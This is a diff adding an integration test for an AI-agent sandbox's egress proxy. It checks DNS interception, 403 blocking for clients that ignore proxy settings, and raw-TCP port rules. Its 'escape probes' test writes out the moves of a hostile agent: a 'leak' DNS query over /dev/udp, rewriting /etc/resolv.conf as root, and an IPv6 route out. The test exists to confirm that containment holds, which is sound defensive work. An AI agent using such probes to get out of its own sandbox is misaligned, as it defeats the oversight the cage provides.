@@ -1,0 +1,179 @@
+// Clients that ignore the proxy variables, in a real cage: the agent's lookups are answered by the proxy (every
+// name → the proxy's cage address, nothing forwarded), so `curl --noproxy '*'` lands on the proxy's transparent
+// listeners and gets the same policy, interception, 403 and events as a proxied client. And the escape probes a
+// hostile agent would try next: DNS to a server of its choice, raw UDP, IPv6.
+import assert from 'node:assert/strict';
+import { after, before, describe, it } from 'node:test';
+import type Docker from 'dockerode';
+import { EGRESS_NETWORK, names, type CageEngine, type CageInfo, type ProxyEvent } from '../../src/engine';
+import { esc, leftovers, makeEngine, makeWorkspace, NODE_IMAGE, prepare, rmrf, startUpstream, TEST_LABEL, tmpDir, waitForEvent, type Upstream } from './setup';
+
+// Host names only this file puts on the shared egress network (see test/shared/upstream.ts).
+const ALLOWED = 'allowed.i19-transparent.test';
+const BLOCKED = 'blocked.i19-transparent.test';
+const OUTSIDE = 'caged-agent-test-i19-outside';
+// Names of the outside server: one a raw TCP rule allows, one no rule names.
+const ECHO = 'echo.i19-transparent.test';
+const DB = 'db.i19-transparent.test';
+const ECHO_PORT = 7007;
+
+// A server of the agent's choosing on the egress network: it logs every UDP datagram it gets on 53 and 5353;
+// and a TCP echo server (7007) and a TCP listener that logs connections (5432, 7008) for the raw TCP rules.
+const OUTSIDE_SCRIPT = `
+const dgram = require('dgram'), net = require('net');
+net.createServer((s) => s.pipe(s)).listen(${ECHO_PORT});
+for (const port of [5432, 7008]) net.createServer((s) => { console.log('tcp ' + port + ' from ' + s.remoteAddress); s.end(); }).listen(port);
+for (const port of [53, 5353]) {
+  const u = dgram.createSocket('udp4');
+  u.on('message', (m, r) => console.log('udp ' + port + ' from ' + r.address + ' ' + m.length));
+  u.bind(port);
+}
+setTimeout(() => console.log('outside listening'), 200);
+`;
+
+describe('transparent capture in a real cage', { timeout: 240_000 }, () => {
+  let engine: CageEngine;
+  let docker: Docker;
+  let stateDir: string;
+  let ws: string;
+  let upstream: Upstream;
+  let outside: Docker.Container | undefined;
+  let outsideIp = '';
+  let cage: CageInfo;
+  let proxyIp = '';
+  const events: ProxyEvent[] = [];
+  let stopEvents: (() => void) | undefined;
+
+  const sh = (script: string) => engine.exec(cage.id, ['bash', '-c', script]);
+  const waitEvent = (pred: (e: ProxyEvent) => boolean) => waitForEvent(events, pred);
+
+  before(async () => {
+    prepare();
+    stateDir = tmpDir('caged-state-i19-');
+    ws = makeWorkspace('caged-i19-ws-', `version: 1\nallow:\n  - host: ${ALLOWED}\n    private: true   # the test upstream is on a Docker bridge\n  - host: ${ECHO}\n    tcp: [${ECHO_PORT}]\n    private: true\n`);
+    engine = makeEngine(stateDir);
+    docker = engine.docker;
+    await engine.down(engine.cageIdFor(ws));
+    upstream = await startUpstream(docker, engine, { name: 'caged-agent-test-i19-upstream', hosts: [ALLOWED, BLOCKED] });
+    await docker.getContainer(OUTSIDE).remove({ force: true }).catch(() => undefined);
+    outside = await docker.createContainer({
+      name: OUTSIDE,
+      Image: NODE_IMAGE,
+      Entrypoint: ['node', '-e', OUTSIDE_SCRIPT],
+      Cmd: [],
+      Labels: { [TEST_LABEL]: '1' },
+      HostConfig: { NetworkMode: EGRESS_NETWORK },
+      NetworkingConfig: { EndpointsConfig: { [EGRESS_NETWORK]: { Aliases: [ECHO, DB] } } },
+    } as Docker.ContainerCreateOptions);
+    await outside.start();
+    outsideIp = (await outside.inspect()).NetworkSettings.Networks[EGRESS_NETWORK].IPAddress;
+    cage = await engine.up({ workspace: ws, upstreamCaPem: upstream.caPem });
+    proxyIp = (await docker.getContainer(cage.proxyContainerId!).inspect()).NetworkSettings.Networks[names.network(cage.id)].IPAddress;
+    const sub = await engine.events(cage.id, (e) => events.push(e));
+    stopEvents = () => sub.stop();
+  });
+
+  after(async () => {
+    stopEvents?.();
+    if (engine && ws) await engine.down(engine.cageIdFor(ws), { images: true }).catch(() => {});
+    await upstream?.stop();
+    await outside?.remove({ force: true }).catch(() => undefined);
+    if (engine && ws) assert.deepEqual(await leftovers(docker, [engine.cageIdFor(ws)]), []);
+    rmrf(ws);
+    rmrf(stateDir);
+  });
+
+  it("the agent's DNS server is the proxy, which still answers caged-proxy and every other name with itself", async () => {
+    const agent = await docker.getContainer(cage.agentContainerId!).inspect();
+    assert.deepEqual(agent.HostConfig.Dns, [proxyIp]);
+    for (const name of ['caged-proxy', ALLOWED, BLOCKED, 'anything.example.org', OUTSIDE]) {
+      const r = await engine.exec(cage.id, ['getent', 'ahostsv4', name]);
+      assert.equal(r.exitCode, 0, `${name}: ${r.stderr}`);
+      const addrs = [...new Set(r.stdout.trim().split('\n').map((l) => l.split(/\s+/)[0]))];
+      assert.deepEqual(addrs, [proxyIp], `${name} resolves to the proxy only (the upstream is at ${upstream.ip}, the outside server at ${outsideIp})`);
+    }
+    // No IPv6 answers: the cage network has no IPv6, and clients fall back to IPv4 at once.
+    const v6 = await engine.exec(cage.id, ['getent', 'ahostsv6', ALLOWED]);
+    assert.ok(!/:/.test(v6.stdout.split(/\s+/)[0] ?? '') || v6.stdout.includes(`::ffff:${proxyIp}`), `no real AAAA answer: ${v6.stdout}`);
+  });
+
+  it("curl --noproxy '*' to an allowed host: 200 through interception, with the cage certificate", async () => {
+    const r = await engine.exec(cage.id, ['curl', '--noproxy', '*', '-sS', '-v', `https://${ALLOWED}/direct?x=1`]);
+    assert.equal(r.exitCode, 0, r.stderr);
+    assert.equal(r.stdout, `hello from ${ALLOWED} GET /direct?x=1\n`);
+    assert.match(r.stderr, new RegExp(`issuer: CN=Caged Agent CA ${cage.id}`));
+    const e = await waitEvent((x) => x.type === 'allow' && x.host === ALLOWED && x.path === '/direct');
+    assert.equal(e.type === 'allow' && e.port, 443);
+    const plain = await engine.exec(cage.id, ['curl', '--noproxy', '*', '-sS', `http://${ALLOWED}/plain`]);
+    assert.equal(plain.stdout, `hello from ${ALLOWED} GET /plain\n`);
+  });
+
+  it("curl --noproxy '*' to a blocked host: 403 with the reason, and a block event with method and path", async () => {
+    const r = await engine.exec(cage.id, ['curl', '--noproxy', '*', '-sS', '-D', '-', '-o', '/dev/null', '-X', 'PUT', `https://${BLOCKED}/v1/thing`]);
+    assert.match(r.stdout, /^HTTP\/1\.1 403/m);
+    assert.match(r.stdout, /^x-caged-agent-block: no-matching-rule/im);
+    const e = await waitEvent((x) => x.type === 'block' && x.host === BLOCKED);
+    assert.equal(e.type === 'block' && e.reason, 'no-matching-rule');
+    assert.equal(e.type === 'block' && e.method, 'PUT');
+    assert.equal(e.type === 'block' && e.path, '/v1/thing');
+    const plain = await engine.exec(cage.id, ['curl', '--noproxy', '*', '-sS', '-D', '-', '-o', '/dev/null', `http://${BLOCKED}/p`]);
+    assert.match(plain.stdout, /^HTTP\/1\.1 403/m);
+  });
+
+  it('escape probes: DNS to a server of its choice, raw UDP and IPv6 reach nothing', async () => {
+    // A DNS query (and any UDP) sent straight to the outside server: no route from the cage network.
+    const query = '\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04leak\\x07example\\x00\\x00\\x01\\x00\\x01';
+    await sh(`for p in 53 5353; do printf '${query}' > /dev/udp/${outsideIp}/$p; done 2>&1`);
+    // The agent is root in its container: it points its resolver at the outside server and asks.
+    const own = await sh(`cp /etc/resolv.conf /tmp/resolv.bak; printf 'nameserver ${outsideIp}\\noptions timeout:1 attempts:1\\n' > /etc/resolv.conf; getent hosts leak2.example; echo "exit $?"; cp /tmp/resolv.bak /etc/resolv.conf`);
+    assert.match(own.stdout, /exit [12]/, `the lookup through a chosen server failed: ${own.stdout}`);
+    // IPv6: no address, no route.
+    const v6 = await engine.exec(cage.id, ['curl', '-6', '--noproxy', '*', '-sS', '-o', '/dev/null', '--connect-timeout', '3', `https://${ALLOWED}/`]);
+    assert.notEqual(v6.exitCode, 0, 'no IPv6 way out');
+    // The outside server heard nothing at all.
+    await new Promise((r) => setTimeout(r, 500));
+    const log = String(await outside!.logs({ stdout: true, stderr: true } as Docker.ContainerLogsOptions & { follow?: false }));
+    assert.match(log, /outside listening/);
+    assert.doesNotMatch(log, /udp \d+ from/, `the outside server got a datagram from the cage: ${log}`);
+    // And the cage still resolves through the proxy after the agent restored its resolver.
+    const again = await engine.exec(cage.id, ['getent', 'ahostsv4', 'after.example']);
+    assert.match(again.stdout, new RegExp(`^${esc(proxyIp)}\\s`));
+  });
+
+  it('raw TCP: a rule\'s port connects to the named host through the proxy; without a rule it is refused with an event', async () => {
+    // bash's /dev/tcp looks the name up and connects, as any client would: unchanged.
+    const ok = await sh(`exec 3<>/dev/tcp/${ECHO}/${ECHO_PORT} && echo 'hello over tcp' >&3 && read -t 5 line <&3 && echo "got: $line"`);
+    assert.equal(ok.stdout.trim(), 'got: hello over tcp', ok.stderr);
+    const allow = await waitEvent((x) => x.type === 'allow' && x.host === ECHO && x.method === 'TCP');
+    assert.equal(allow.type === 'allow' && allow.port, ECHO_PORT);
+    // A watched port without a rule: the proxy takes the connection, records the block and closes it.
+    const blocked = await sh(`exec 3<>/dev/tcp/${DB}/5432 && read -t 5 line <&3; echo "exit $?"`);
+    assert.match(blocked.stdout, /exit [1-9]/);
+    const block = await waitEvent((x) => x.type === 'block' && x.host === DB && x.method === 'TCP');
+    assert.equal(block.type === 'block' && block.reason, 'no-matching-rule');
+    assert.equal(block.type === 'block' && block.port, 5432);
+    // A port no rule names and nobody watches: nothing listens there, the connection is refused.
+    const unlisted = await sh(`exec 3<>/dev/tcp/${DB}/7008; echo "exit $?"`);
+    assert.match(unlisted.stdout, /exit 1/);
+    assert.match(unlisted.stderr, /refused/i);
+    const log = String(await outside!.logs({ stdout: true, stderr: true } as Docker.ContainerLogsOptions & { follow?: false }));
+    assert.doesNotMatch(log, /tcp (5432|7008) from/, `nothing without a rule reached the outside: ${log}`);
+  });
+
+  it('verify: the no-proxy checks pass (allowed succeeds, blocked is refused), lookups are answered by the proxy, the TCP rule connects, an unlisted port does not', async () => {
+    const checks = await engine.verify(cage.id, { allowedUrl: `https://${ALLOWED}/`, blockedUrl: `https://${BLOCKED}/`, externalName: 'verify.example.org' });
+    for (const c of checks) console.log(`# ${c.ok ? 'PASS' : 'FAIL'} ${c.name}: ${c.detail}`);
+    assert.deepEqual(checks.filter((c) => !c.ok).map((c) => c.name), []);
+    const byName = new Set(checks.map((c) => c.name));
+    for (const n of [
+      'lookups are answered by the proxy',
+      'a blocked host gets 403 (a client that ignores the proxy settings)',
+      'an allowed URL succeeds (a client that ignores the proxy settings)',
+      "a raw TCP rule's port connects", // found in the policy: echo...:7007
+      'an unlisted TCP port does not connect',
+    ]) assert.ok(byName.has(n), n);
+    // The lookup check sends no request: nothing shows up as blocked in the editor for it.
+    await new Promise((r) => setTimeout(r, 300));
+    assert.ok(!events.some((e) => e.type === 'block' && e.host === 'verify.example.org'), 'no block event for the lookup check');
+  });
+});
